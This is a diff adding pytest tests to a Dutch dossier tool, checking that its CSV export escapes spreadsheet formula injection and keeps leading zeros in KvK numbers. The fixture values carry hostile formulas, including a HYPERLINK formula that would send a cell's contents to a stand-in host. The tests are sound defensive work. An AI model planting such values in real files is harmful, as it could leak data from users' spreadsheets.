@@ -238,3 +238,91 @@ def test_every_data_file_of_init_and_export_is_package_data() -> None:
     assert len(data) >= 12
     missing = [f for f in data if not any(fnmatch.fnmatch(f, g) and f.count("/") == g.count("/") for g in globs)]
     assert missing == []
+
+
+# --- the CSV in a real spreadsheet ----------------------------------------------------------------------
+
+HOSTILE = {  # aanbieders.yaml of the minimal dossier: what a provider's name or place could start with
+    "naam: Jeugdhulp De Horst B.V.": """naam: '=HYPERLINK("https://example.invalid/?"&A1;"klik")'""",
+    "naam: Lettersprong Dyslexiezorg": "naam: '+31 Lettersprong'",
+    "plaats: Hengelo": "plaats: '@SUM(1+1)'",
+    "naam: Taalkracht Twente": "naam: '-2+3 Taalkracht'",
+    'kvk: "12345678"': 'kvk: "01234567"',
+    'kvk: "34567890"': 'kvk: "00000042"',
+}
+
+
+def _calc() -> bool:
+    from dossier.pdf import find_soffice
+
+    soffice = find_soffice()
+    return bool(soffice) and (Path(soffice).resolve().parent / "libsclo.so").exists()
+
+
+def spreadsheet_cells(csv_file: Path, tmp_path: Path) -> dict[str, tuple[str | None, str]]:
+    """Open `csv_file` in LibreOffice Calc as a Dutch user would (';', '"', UTF-8) and save it as
+    .xlsx; every cell: reference → (its formula or None, the value shown)."""
+    import subprocess
+    import zipfile
+    from xml.etree import ElementTree
+
+    from dossier.pdf import find_soffice
+
+    done = subprocess.run([find_soffice(), f"-env:UserInstallation=file://{tmp_path}/calc-profiel", "--headless",
+                           "--infilter=CSV:59,34,76,1", "--convert-to", "xlsx", "--outdir", str(tmp_path),
+                           str(csv_file)], capture_output=True, text=True, timeout=180)
+    xlsx = tmp_path / (csv_file.stem + ".xlsx")
+    assert xlsx.exists(), done.stdout + done.stderr
+    ns = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+    with zipfile.ZipFile(xlsx) as z:
+        shared = ["".join(si.itertext()) for si in ElementTree.fromstring(z.read("xl/sharedStrings.xml"))]
+        sheet = ElementTree.fromstring(z.read("xl/worksheets/sheet1.xml"))
+    cells = {}
+    for c in sheet.iterfind(".//x:c", ns):
+        formula, value = c.find("x:f", ns), c.findtext("x:v", "", ns)
+        cells[c.get("r")] = (None if formula is None else formula.text,
+                             shared[int(value)] if c.get("t") == "s" else value)
+    return cells
+
+
+@pytest.mark.skipif(not _calc(), reason="LibreOffice Calc ontbreekt (apt-get install libreoffice-calc-nogui)")
+def test_csv_in_a_spreadsheet_has_no_live_formula_and_keeps_kvk_zeros(minimaal: Path, tmp_path: Path) -> None:
+    aanbieders = minimaal / "aanbieders.yaml"
+    text = aanbieders.read_text(encoding="utf-8")
+    for old, new in HOSTILE.items():
+        assert old in text
+        text = text.replace(old, new)
+    aanbieders.write_text(text, encoding="utf-8")
+    out = tmp_path / "besluiten.csv"
+    result = run_cli("export", "csv", str(minimaal), "--out", str(out), timeout=120)
+    assert result.returncode == 0, result.stderr
+    _header, *rows = read_csv(out.read_bytes())
+    assert [(r[5], r[7], r[8]) for r in rows] == [
+        ("""'=HYPERLINK("https://example.invalid/?"&A1;"klik")""", '="01234567"', "Almelo"),
+        ("'+31 Lettersprong", '="23456789"', "'@SUM(1+1)"),
+        ("'-2+3 Taalkracht", '="00000042"', "Enschede"),
+    ]
+
+    cells = spreadsheet_cells(out, tmp_path)
+    # the names and places are text, as written (the apostrophe shows), never a formula
+    assert cells["F2"] == (None, """'=HYPERLINK("https://example.invalid/?"&A1;"klik")""")
+    assert cells["F3"] == (None, "'+31 Lettersprong")
+    assert cells["I3"] == (None, "'@SUM(1+1)")
+    assert cells["F4"] == (None, "'-2+3 Taalkracht")
+    # the KvK numbers are text with their leading zeros: a formula of only that string constant
+    assert [cells[f"H{row}"] for row in (2, 3, 4)] == [('"01234567"', "01234567"), ('"23456789"', "23456789"),
+                                                        ('"00000042"', "00000042")]
+    formulas = {ref for ref, (formula, _value) in cells.items() if formula is not None}
+    assert formulas == {"H2", "H3", "H4"}
+
+
+def test_text_and_kvk_cells() -> None:
+    from dossier.export.csv import kvk_cell, text_cell
+
+    for start in ("=", "+", "-", "@", "\t", "\r", " =", "\n+"):
+        assert text_cell(f"{start}1+2") == f"'{start}1+2"
+    for safe in ("Jeugdhulp", "'=al een apostrof", "2025-06-02", "KIT-A-01, KIT-B-02", "", "a=b"):
+        assert text_cell(safe) == safe
+    assert kvk_cell("01234567") == '="01234567"'
+    assert kvk_cell('1"+HYPERLINK("x")') == '1"+HYPERLINK("x")'  # never inside the formula: not eight digits
+    assert kvk_cell("=1+2") == "'=1+2"
